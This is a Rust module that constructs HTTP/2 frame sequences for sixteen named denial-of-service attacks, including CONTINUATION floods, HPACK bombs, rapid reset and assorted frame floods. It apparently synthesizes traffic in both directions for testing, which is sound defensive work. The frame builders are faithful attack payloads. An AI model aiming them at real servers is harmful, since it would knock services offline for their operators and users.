//! HTTP/2 with prior knowledge: floods of frames, streams and header blocks.

use std::io;

use super::Attack;
use super::packets::{Connection, Lane};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "CONTINUATION flood", units: 8, write: continuations },
    Attack { name: "CONTINUATION frames of no bytes", units: 10_000, write: empty_continuations },
    Attack { name: "HPACK bomb of one-byte references", units: 30, write: references },
    Attack { name: "HPACK entries without end", units: 15_000, write: inserts },
    Attack { name: "HPACK resizing without end", units: 30_000, write: resizes },
    Attack { name: "HPACK tables with holes without end", units: 600, write: holes },
    Attack { name: "rapid reset", units: 2500, write: rapid_reset },
    Attack { name: "streams without end", units: 3000, write: streams },
    Attack { name: "answered streams by the thousand", units: 2000, write: answered },
    Attack { name: "SETTINGS flood", units: 6000, write: settings },
    Attack { name: "PING flood", units: 6000, write: pings },
    Attack { name: "DATA frames of no bytes", units: 10_000, write: empty_data },
    Attack { name: "DATA frames of one byte", units: 10_000, write: tiny_data },
    Attack { name: "pushed streams without end", units: 2500, write: pushes },
    Attack { name: "priorities without end", units: 7000, write: priorities },
    Attack { name: "frames of unknown types", units: 10_000, write: unknown },
];

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PUSH_PROMISE: u8 = 5;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET https://attack.example/`, `/` and both pseudo header fields from the static table.
const GET: &[u8] = b"\x82\x87\x84\x01\x0eattack.example";
const OK: &[u8] = b"\x88";

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    [&(payload.len() as u32).to_be_bytes()[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn open(lane: &mut Lane<'_>) -> io::Result<Connection> {
    let mut connection = lane.connect(80)?;
    let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, &[])].concat();
    connection.send(lane, true, &preface)?;
    connection.send(lane, false, &frame(SETTINGS, 0, 0, &[]))?;
    Ok(connection)
}

/// What each of `units` repetitions sends up.
fn up(lane: &mut Lane<'_>, units: usize, mut each: impl FnMut(u32) -> Vec<u8>) -> io::Result<()> {
    let mut connection = open(lane)?;
    let bytes: Vec<u8> = (0..units as u32).flat_map(&mut each).collect();
    connection.send(lane, true, &bytes)
}

/// A request, and what each of `units` repetitions sends down.
fn down(lane: &mut Lane<'_>, units: usize, mut each: impl FnMut(u32) -> Vec<u8>) -> io::Result<()> {
    let mut connection = open(lane)?;
    connection.send(lane, true, &frame(HEADERS, END_HEADERS | END_STREAM, 1, GET))?;
    connection.send(lane, false, &frame(HEADERS, END_HEADERS, 1, OK))?;
    let bytes: Vec<u8> = (0..units as u32).flat_map(&mut each).collect();
    connection.send(lane, false, &bytes)
}

fn continuations(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    let fields = b"\x00\x04name\x05value".repeat(1000);
    up(lane, units, |at| match at {
        0 => [frame(HEADERS, END_STREAM, 1, GET), frame(CONTINUATION, 0, 1, &fields)].concat(),
        _ => frame(CONTINUATION, 0, 1, &fields),
    })
}

fn empty_continuations(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |at| match at {
        0 => frame(HEADERS, END_STREAM, 1, GET),
        _ => frame(CONTINUATION, 0, 1, &[]),
    })
}

/// One entry of 4000 octets, then blocks that name it three thousand times.
fn references(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    let entry = [b"\x40\x01x\x7f\xa1\x1e".to_vec(), vec![b'y'; 4000]].concat();
    up(lane, units, |at| {
        let more = if at == 0 { entry.clone() } else { vec![0xbe; 3000] };
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, &[GET, &more].concat())
    })
}

/// Entries of two octets, as many as go into a block.
fn inserts(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units / 1000, |at| {
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, &[GET, &b"\x40\x01a\x01b".repeat(1000)].concat())
    })
}

fn resizes(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units / 1000, |at| {
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, &[&b"\x20\x3f\xe1\x1f".repeat(500), GET].concat())
    })
}

/// Blocks go missing, and those behind them fit any number of entries.
fn holes(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    let mut connection = open(lane)?;
    let fill = [GET, &b"\x40\x01a\x00".repeat(120)].concat();
    connection.send(lane, true, &frame(HEADERS, END_HEADERS | END_STREAM, 1, &fill))?;
    for at in 0..units as u32 {
        connection.sequence[0] = connection.sequence[0].wrapping_add(300);
        let named = [GET, b"\x40\x01a\x00", &[0xfe; 60]].concat();
        let bytes = [frame(HEADERS, END_HEADERS | END_STREAM, 9 + 6 * at, &named), frame(PING, 0, 0, &[0; 8])].concat();
        connection.send(lane, true, &bytes)?;
    }
    Ok(())
}

fn rapid_reset(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |at| {
        let id = 1 + 2 * at;
        [frame(HEADERS, END_HEADERS | END_STREAM, id, GET), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
    })
}

fn streams(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |at| frame(HEADERS, END_HEADERS, 1 + 2 * at, GET))
}

fn answered(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    let mut connection = open(lane)?;
    for first in (0..units as u32).step_by(20) {
        let bytes = |block: &[u8]| -> Vec<u8> {
            (first..first + 20).flat_map(|at| frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * at, block)).collect()
        };
        connection.send(lane, true, &bytes(GET))?;
        connection.send(lane, false, &bytes(OK))?;
    }
    Ok(())
}

fn settings(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |at| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, (at >> 8) as u8, at as u8]))
}

fn pings(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |_| frame(PING, 0, 0, &[7; 8]))
}

fn empty_data(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    down(lane, units, |_| frame(DATA, 0, 1, &[]))
}

fn tiny_data(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    down(lane, units, |_| frame(DATA, 0, 1, b"x"))
}

fn pushes(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    down(lane, units, |at| frame(PUSH_PROMISE, END_HEADERS, 1, &[&(2 + 2 * at).to_be_bytes()[..], GET].concat()))
}

fn priorities(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |at| frame(PRIORITY, 0, 1 + 2 * at, &[0, 0, 0, 0, 15]))
}

fn unknown(lane: &mut Lane<'_>, units: usize) -> io::Result<()> {
    up(lane, units, |_| frame(0xee, 0xff, 1, b"x"))
}
